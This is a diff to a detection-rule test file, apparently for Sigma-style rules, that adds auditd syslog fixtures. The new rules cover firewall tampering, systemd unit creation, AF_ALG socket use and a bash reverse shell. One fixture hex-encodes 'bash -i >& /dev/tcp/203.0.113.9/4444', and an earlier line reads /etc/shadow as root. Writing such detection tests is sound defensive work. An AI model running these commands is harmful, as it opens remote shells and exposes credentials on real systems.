@@ -27,6 +27,8 @@ const nginxJson =
 const zeek = (fields: string): string =>
   `<14>Nov 22 10:00:00 sensor zeek: {${fields},"ts":1795312800.1,"uid":"C1","id.orig_h":"10.0.0.1","id.resp_h":"10.0.0.2"}`;
 
+const audit = (record: string): string => `<14>Nov 22 10:00:00 lab audispd: node=lab ${record}`;
+
 const cases: Readonly<Record<string, Case>> = {
   'web server: address, method and status': {
     logsource: '{category: webserver}',
@@ -173,6 +175,48 @@ const cases: Readonly<Record<string, Case>> = {
     logsource: '{product: linux, category: process_creation}',
     selections: 's: {CommandLine|contains: /etc/shadow, User: root}',
     line: '<85>Nov 22 10:00:00 lab sudo:  alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow',
+  },
+  'linux auditd: arguments, one in hexadecimal': {
+    logsource: '{product: linux, service: auditd}',
+    selections:
+      "s: {type: EXECVE, a0|endswith: iptables, a1: '-t', a2: nat}\n  keywords: ['--to-ports 42']",
+    line: audit(
+      'type=EXECVE msg=audit(1795312800.123:7): argc=4 a0="/sbin/iptables" a1="-t" a2="nat" a3=2D2D746F2D706F727473203432',
+    ),
+  },
+  'linux auditd: a system call by name, number and key': {
+    logsource: '{product: linux, service: auditd}',
+    selections:
+      's: {type: SYSCALL, SYSCALL: socket, a0: 26}\n  t: {key: af_alg_detect, exe|endswith: /python3, euid: 33}',
+    line: audit(
+      'type=SYSCALL msg=audit(1795312800.123:7): arch=c000003e syscall=41 success=yes exit=3 a0=26 a1=5 a2=0 a3=0 items=0 ppid=1 pid=2 auid=1000 uid=33 gid=33 euid=33 comm="python3" exe="/usr/bin/python3" key="af_alg_detect"',
+    ),
+  },
+  'linux auditd: an enriched system call': {
+    logsource: '{product: linux, service: auditd}',
+    selections: 's: {type: SYSCALL, SYSCALL: mknod, comm: mknod}',
+    line: audit(
+      'type=SYSCALL msg=audit(1795312800.123:7): arch=c000003e syscall=133 success=yes comm="mknod" exe="/usr/bin/mknod" key=(null)#035ARCH=x86_64 SYSCALL=mknod UID="root"',
+    ),
+  },
+  'linux auditd: a path': {
+    logsource: '{product: linux, service: auditd}',
+    selections: 's: {type: PATH, nametype: CREATE, name|startswith: /etc/systemd/system/}',
+    line: audit(
+      'type=PATH msg=audit(1795312800.123:7): item=1 name="/etc/systemd/system/x.service" inode=7 dev=fe:00 mode=0100644 nametype=CREATE',
+    ),
+  },
+  'linux auditd: a service, by journald': {
+    logsource: '{product: linux, service: auditd}',
+    selections: 's: {type: SERVICE_STOP, unit: [firewalld, ufw]}',
+    line: `<30>Nov 22 10:00:00 lab audit[1]: SERVICE_STOP pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`,
+  },
+  'linux process creation by auditd': {
+    logsource: '{product: linux, category: process_creation}',
+    selections: "s: {CommandLine|contains|all: ['-i', '/dev/tcp/'], Image|endswith: /bash}",
+    line: audit(
+      'type=EXECVE msg=audit(1795312800.123:7): argc=3 a0="/bin/bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E392F34343434',
+    ),
   },
   'linux cron': {
     logsource: '{product: linux, service: cron}',
